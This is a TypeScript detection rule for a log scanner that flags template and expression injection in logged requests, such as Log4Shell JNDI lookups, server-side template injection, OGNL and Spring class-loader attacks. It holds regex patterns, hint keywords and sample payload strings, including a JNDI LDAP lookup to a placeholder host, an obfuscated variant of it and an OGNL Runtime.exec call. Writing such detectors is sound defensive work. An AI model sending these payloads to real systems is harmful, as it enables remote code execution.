import type { LineExamples, LogRule } from '../sign';

export const rule: LogRule = {
  id: 'template-injection',
  row: 36,
  title: 'A request that was logged holds an expression for a template or a lookup',
  techniques: ['T1190', 'T1059'],
  severity: 5,
  rationale: 'Log4j looks up what it logs; template engines evaluate what they print',
  references: [
    'https://attack.mitre.org/techniques/T1190/',
    'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
  ],
  hints: [
    'jndi',
    '\u0024{',
    '#{',
    '{{',
    '<%',
    'ognl',
    '%{',
    't(java',
    'class.module',
    'getruntime',
    'ndi:',
    'processbuilder',
  ],
  patterns: [
    /\$\{\s{0,5}jndi\s{0,5}:/,
    /\{\{[^}\n]{0,120}(?:__class__|__mro__|__subclasses__|__globals__|constructor|config\.|self\.|request\.|lipsum|cycler|\d{1,4}\s{0,2}\*\s{0,2}\d{1,4})[^}\n]{0,200}/,
    /(?:#|\$|%)\{[^}\n]{0,120}(?:getruntime|processbuilder|java\.lang|t\(|@java|memberaccess|\bexec\(|\d{1,4}\s{0,2}\*\s{0,2}\d{1,4})/,
    /\bclass\.module\.classloader\b/,
    /<%=?[^%\n]{0,120}(?:system|exec|file\.|\d{1,4}\s{0,2}\*\s{0,2}\d{1,4})/,
  ],
};

export const examples: LineExamples = {
  fires: [
    'User-Agent: \u0024{jndi:ldap://example.invalid/a}',
    'name=\u0024{\u0024{lower:j}ndi:ldap://example.invalid}',
    'q={{7*7}}',
    'x=%{(#rt=@java.lang.Runtime@getRuntime().exec(1))}',
  ],
  silent: ['Hello \u0024{name}', '{{ user.name }} was rendered', 'path=\u0024{PATH}'],
};
